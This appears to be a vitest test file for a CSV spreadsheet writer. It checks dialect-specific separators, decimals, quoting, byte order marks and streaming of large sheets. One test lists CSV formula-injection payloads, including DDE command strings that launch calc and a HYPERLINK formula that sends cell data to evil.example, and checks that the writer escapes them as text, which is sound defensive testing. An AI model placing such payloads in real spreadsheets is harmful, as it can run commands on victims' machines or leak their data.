import { describe, expect, test } from 'vitest';
import {
  countCell,
  dayCell,
  linkCell,
  minuteCell,
  moneyCell,
  textCell,
  type Cell,
  type Sheet,
  type WrittenSheet,
} from '../../src/spreadsheet/sheet.ts';
import { csvText, type CsvDialect } from '../../src/spreadsheet/write-csv.ts';
import { ENGLISH, isFormula, numberIn, readCsv, SPANISH } from '../support/read-csv.ts';

const sheetOf = (name: string, rows: Iterable<readonly Cell[]>): Sheet => ({
  name,
  columns: [
    { title: 'Nota', width: 10 },
    { title: 'Monto', width: 10 },
  ],
  rows: (function* () {
    for (const cells of rows) yield { cells };
  })(),
});

async function written(sheets: readonly Sheet[], dialect: CsvDialect, onSheet?: (sheet: WrittenSheet) => void): Promise<string> {
  let text = '';
  for await (const piece of csvText(sheets, dialect, onSheet)) text += piece;
  return text;
}

const line = async (dialect: CsvDialect, ...cells: Cell[]) => (await written([sheetOf('Hoja', [cells])], dialect)).split('\r\n')[1];

describe('each dialect', () => {
  const cells = [
    textCell('Año; "nuevo", sí'),
    moneyCell('-1234.5', 2),
    moneyCell('119000', 0),
    countCell(3),
    dayCell('2026-11-30'),
    minuteCell('2026-11-30 18:05'),
    null,
    linkCell('https://a.example/x?a=1;b'),
  ];

  test('has its own separator, decimals and quotes', async () => {
    expect(await line('spanish', ...cells)).toBe(
      '"Año; ""nuevo"", sí";-1234,50;119000;3;2026-11-30;2026-11-30 18:05;;"https://a.example/x?a=1;b"',
    );
    expect(await line('plain', ...cells)).toBe(
      '"Año; ""nuevo"", sí",-1234.50,119000,3,2026-11-30,2026-11-30 18:05,,"https://a.example/x?a=1;b"',
    );
  });

  test('is read back by the spreadsheet of its country: texts as they were, amounts as numbers', async () => {
    for (const [dialect, country] of [
      ['spanish', SPANISH],
      ['plain', ENGLISH],
    ] as const) {
      const [text, money] = readCsv(await written([sheetOf('Hoja', [cells])], dialect), country)[1]!;
      expect([text, numberIn(money!, country)]).toEqual(['Año; "nuevo", sí', -1_234_500_000n]);
    }
  });

  test('only the Spanish one begins with a byte order mark, once', async () => {
    const sheets = () => [sheetOf('Una', []), sheetOf('Otra', [])];
    expect([...(await written(sheets(), 'spanish')).matchAll(/\uFEFF/g)].map(({ index }) => index)).toEqual([0]);
    expect(await written(sheets(), 'plain')).not.toContain('\uFEFF');
  });
});

test('several sheets stand under their names, one alone without', async () => {
  const sheets = () => ['Una', 'Otra'].map((name) => sheetOf(name, [[textCell('x'), moneyCell('1', 0)]]));
  expect(await written(sheets(), 'plain')).toBe('Una\r\nNota,Monto\r\nx,1\r\n\r\nOtra\r\nNota,Monto\r\nx,1\r\n');
  expect(await written(sheets().slice(1), 'plain')).toBe('Nota,Monto\r\nx,1\r\n');
});

test.each([
  '=1+1',
  '+56 9 1234 5678',
  '-5 %',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '  =cmd|calc',
  '\u00A0=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?"&A1;"clic")',
  "-1+cmd|' /C calc'!A0",
])('a text that would be a formula is marked as text: %j', async (text) => {
  for (const [dialect, country] of [
    ['spanish', SPANISH],
    ['plain', ENGLISH],
  ] as const) {
    const all = await written([sheetOf(text, [[textCell(text), moneyCell('-1', 0)]]), sheetOf('b', [])], dialect);
    const fields = readCsv(all.replace('\uFEFF', ''), country).flat();
    expect(fields.filter(isFormula)).toEqual([]);
    expect(fields.filter((field) => field === `'${text}`)).toHaveLength(2);
    expect(fields).toContain('-1');
  }
});

test('what is no number is not written among amounts', () => {
  for (const wrong of ['', '=1', '1,5', '1e3', 'NaN', ' 1']) expect(() => moneyCell(wrong, 0)).toThrow('no decimal amount');
});

test('100,000 rows are counted, and come as they are asked for', async () => {
  let made = 0;
  const rows = function* () {
    for (; made < 100_000; made++) yield [textCell(`#${made}`), moneyCell(String(made), 0)];
  };
  const counted: WrittenSheet[] = [];
  const pieces = csvText([sheetOf('Hallazgos', rows())], 'spanish', (sheet) => counted.push(sheet));
  let text = (await pieces.next()).value as string;
  expect(made).toBeLessThan(20_000);
  for await (const piece of pieces) text += piece;
  expect(counted).toEqual([{ name: 'Hallazgos', rows: 100_000 }]);
  const sum = readCsv(text.replace('\uFEFF', ''), SPANISH)
    .slice(1)
    .reduce((total, [, amount]) => total + numberIn(amount!, SPANISH)!, 0n);
  expect(sum).toBe(4_999_950_000n * 1_000_000n);
});
